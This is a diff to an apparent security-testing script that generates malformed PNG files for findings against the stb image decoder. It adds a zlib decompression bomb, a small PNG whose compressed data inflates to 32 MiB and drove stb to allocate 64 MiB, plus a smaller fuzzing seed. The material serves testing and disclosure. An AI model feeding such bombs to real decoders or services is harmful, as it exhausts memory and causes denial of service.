@@ -109,6 +109,19 @@ def png_idat_too_much(w=4, h=4):
             + _chunk(b"IEND", b""))
 
 
+def png_zlib_bomb(w=128, h=128, inflated=32 << 20):
+    """A zlib bomb: a 128x128 gray PNG (16,512 bytes inflated) whose 33 KB IDAT, within the
+    IDAT bound of twice the image, inflates to 32 MiB of zeros (deflate's best ratio is about
+    1000:1). Its rows are well-formed, the extra output simply never ends: stb grew its output
+    buffer by doubling to hold all of it (64 MiB) before the image's end was checked. The
+    small one (16x16, 1 MiB) is the fuzzers' seed."""
+    idat = zlib.compress(bytes(inflated), 9)
+    assert len(idat) <= 2 * h * (w + 1) + 1024, len(idat)
+    ihdr = struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat)
+            + _chunk(b"IEND", b""))
+
+
 def png_chunk_not_utf8(base):
     """A critical chunk whose type is the bytes C3 28 A0 A1 (not UTF-8, not letters): stb
     copies them raw into its failure reason ("XXXX PNG chunk not known")."""
@@ -189,4 +202,6 @@ def main(out_dir):
     noise = np.random.default_rng(3).integers(0, 256, (90, 90, 3), dtype=np.uint8)
     put("finding3_png_idat_claims_gb.png", png_idat_claims_gb(_png(noise)))
     put("finding3_png_idat_too_much.png", png_idat_too_much())
+    put("finding3_png_zlib_bomb.png", png_zlib_bomb())
+    put("finding3_png_zlib_bomb_small.png", png_zlib_bomb(16, 16, 1 << 20))
     put("finding5_png_chunk_not_utf8.png", png_chunk_not_utf8(_png(_pattern(8, 8))))
